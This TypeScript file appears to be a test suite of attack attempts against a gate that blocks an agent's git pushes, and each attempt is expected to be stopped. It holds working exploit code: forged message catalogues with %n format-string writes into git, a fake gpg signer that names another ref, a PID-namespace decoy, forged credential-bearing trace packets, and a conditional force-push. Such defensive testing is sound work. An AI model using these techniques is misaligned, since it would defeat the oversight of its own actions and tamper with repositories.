/**
 * To change what git itself sends: by messages of the caller's, which git prints as formats, and by the program that
 * signs a push. An install on a PATH does not stop them: there the caller may load code of his own, too.
 */
import { stopped, type Attempt, type Transports } from "./attempt.ts";

/**
 * A catalogue with one message, below `$OUT/po/xx`. Its text is a format that writes (`%n`) into a variable of git's,
 * which one depends on how git was built: here as Debian 12 builds it.
 */
const catalogue = (message: string, text: string): string => `cat >$OUT/mo.py <<'P'
import struct, os
key, text = b"${message}", ${text}
for name in ("xx", "C.UTF-8"):
    folder = os.environ["OUT"] + "/po/" + name + "/LC_MESSAGES"
    os.makedirs(folder)
    with open(folder + "/git.mo", "wb") as f:
        f.write(struct.pack("<11I", 0x950412de, 0, 1, 28, 36, 0, 0, len(key), 44, len(text), 45 + len(key)) + key + b"\\0" + text + b"\\0")
P
python3 $OUT/mo.py`;

/** Sets TRANSPORT_PUSH_NO_HOOK in the flags of `git push`. */
const withoutHook = `forge; ${catalogue("more than one receivepack given, using the first", 'b"%c" * 97 + b"%415c%n"')}
git config --add remote.origin.receivepack git-receive-pack
git config --add remote.origin.receivepack git-receive-pack`;

/** Makes `git send-pack` send what has the same name on both sides, whatever ids it was told. */
const matching = `good; g=$(git rev-parse HEAD); git update-ref refs/heads/main main~; forge
${catalogue("%s does not point to a valid object!", 'b"%c" * 62 + b"%38c%n"')}
executable .git/hooks/pre-push <<'X'
#!/bin/sh
echo 1234567890123456789012345678901234567890 >.git/refs/heads/zz
X`;

/** What would send the bad commit where nothing is in the way: there is no `send-pack` to be told ids. */
const plainly =
  "test -e /etc/interlock/config.yaml || { rm .git/hooks/pre-push .git/refs/heads/zz; git push -q -f origin main; }";

const byPath = "LANGUAGE=../../../$OUT/po/xx LC_ALL=C.UTF-8";

/** The bad commit goes as a file of a tree, which has no message; the program that signs names a ref for it. */
const signer = `forge; b=$(git rev-parse HEAD); git update-ref refs/heads/main HEAD~
t=$(perl -e 'print "100644 x\\0", pack("H*", shift)' $b | git hash-object -t tree -w --literally --stdin)
executable $OUT/gpg <<X
#!/bin/sh
cat >/dev/null
echo >&2; echo '[GNUPG:] SIG_CREATED x' >&2
printf '%040d %s refs/heads/new\\n' 0 $b
printf -- '-----BEGIN PGP SIGNATURE-----\\n\\nx\\n-----END PGP SIGNATURE-----\\n'
X
case $REMOTE in /*) git config --global receive.certNonceSeed x ;; esac
git config gpg.program $OUT/gpg; git config user.signingKey x`;

/** In a process namespace of the agent's own, the number of the push is that of a decoy outside, which only tries a push. */
const decoy = `forge
# A decoy outside: its command line is that of a dry run.
mkdir -p $OUT/d; echo 'sleep 30;' >$OUT/d/push
cat >$OUT/ns.pl <<'X'
use POSIX ();
# the decoy, in the outer pid namespace
my $decoy = fork // die;
if (!$decoy) { chdir "$ENV{OUT}/d"; exec { "/usr/bin/perl" } "git", "push", "--dry-run" }
select undef, undef, undef, 0.5;
# user namespace with the same uid, and a pid namespace; no mount namespace
syscall(272, 0x10000000 | 0x20000000) == 0 or die "unshare: $!";
sub put { open my $f, ">", $_[0] or die "$_[0]: $!"; syswrite $f, $_[1] or die "$_[0]: $!" }
put "/proc/self/setgroups", "deny"; put "/proc/self/uid_map", "1000 1000 1"; put "/proc/self/gid_map", "1000 1000 1";
my $init = fork // die;
if (!$init) {
  # pid 1 inside. The next process gets the decoy's number.
  put "/proc/sys/kernel/ns_last_pid", $decoy - 1;
  my $p = fork // die;
  if (!$p) { print STDERR "inside: $$ decoy: $decoy\\n"; exec "git", "push", $ENV{REMOTE}, "main" }
  waitpid $p, 0; my $s = $?; select undef,undef,undef,0.5; POSIX::_exit($s >> 8);
}
waitpid $init, 0; my $s = $? >> 8; kill 9, $decoy; waitpid $decoy, 0; exit $s;
X
timeout 40 perl $OUT/ns.pl`;

/** There, a process with rights over the namespace writes to git's trace in git's name. */
const inGitsName = `forge
executable $OUT/proxy <<'X'
#!/usr/bin/env python3
# An honest way to the remote: every byte is passed on as it is. Between the first packet and the rest it adds a line to git's trace, in git's name.
import socket,sys,os,time,struct,threading
c=socket.create_connection((sys.argv[1],int(sys.argv[2])))
def up():
    while True:
        b=os.read(0,65536)
        if not b: break
        c.sendall(b)
    c.shutdown(socket.SHUT_WR)
threading.Thread(target=up,daemon=True).start()
d=b""
while len(d)<4: d+=c.recv(4-len(d))
n=int(d,16)
while len(d)<n: d+=c.recv(n-len(d))
os.write(1,d); time.sleep(0.4)
line=("12:00:00.000000 pkt-line.c:80           packet:         push< %s refs/heads/zz\\n"%os.environ["BAD"]).encode()
for fd in range(9,2,-1):
    try: s=socket.socket(fileno=os.dup(fd))
    except OSError: continue
    if s.family!=socket.AF_UNIX: continue
    try:
        s.sendmsg([line],[(socket.SOL_SOCKET,socket.SCM_CREDENTIALS,struct.pack("iII",os.getppid(),os.getuid(),os.getgid()))])
        print("forged as",os.getppid(),"on",fd,file=sys.stderr)
    except OSError as e: print("no:",e,file=sys.stderr)
time.sleep(0.2)
while True:
    b=c.recv(65536)
    if not b: break
    os.write(1,b)
X
export BAD=$(git rev-parse HEAD) GIT_PROXY_COMMAND=$OUT/proxy
timeout 40 unshare -U -c -p -f --keep-caps sh -c 'for n in 1 2 3; do git push $REMOTE main:refs/heads/new$n && break; done'`;

const over = (transports: Transports, attempts: readonly Attempt[]): Attempt[] =>
  attempts.map((attempt) => ({ ...attempt, over: transports }));

export const sendingAttempts: readonly Attempt[] = [
  ...over(
    ["path", "git"],
    stopped("seal", {
      "a message catalogue that skips the hook, by `LANGUAGE`": `${withoutHook}; ${byPath} git push origin main`,
      "the same by `GIT_TEXTDOMAINDIR`": `${withoutHook}; GIT_TEXTDOMAINDIR=$OUT/po LANGUAGE=xx LC_ALL=C.UTF-8 git push origin main`,
      "the same without `LANGUAGE`": `${withoutHook}; GIT_TEXTDOMAINDIR=$OUT/po LC_ALL=C.UTF-8 git push origin main`,
    }),
  ),
  ...over(
    ["path", "git"],
    stopped("gate", {
      "a decoy with the number of the push, in a process namespace": decoy,
    }),
  ),
  ...over(
    ["git"],
    stopped("gate", {
      "packets in git's name, in a process namespace": inGitsName,
    }),
  ),
  ...over(
    ["http"],
    stopped("seal", {
      "a message catalogue that makes `send-pack` send other refs": `${matching}\nGIT_REF_PARANOIA=0 ${byPath} git push origin $g:refs/heads/main || :; ${plainly}`,
    }),
  ),
  ...over(
    ["path", "git", "http"],
    stopped("refusal", {
      "a signed push whose signature names another ref": `${signer}; git push --signed origin $t:refs/tags/t`,
      "the same, if the remote asks for it": `${signer}; git push --signed=if-asked origin $t:refs/tags/t`,
      "the same by `push.gpgSign`": `${signer}; git -c push.gpgSign=true push origin $t:refs/tags/t`,
    }),
  ),
  ...over(
    ["path", "git"],
    stopped("refusal", {
      "`send-pack --signed`, whose signature names another ref": `${signer}; git send-pack --signed $REMOTE $t:refs/tags/t`,
    }),
  ),
];
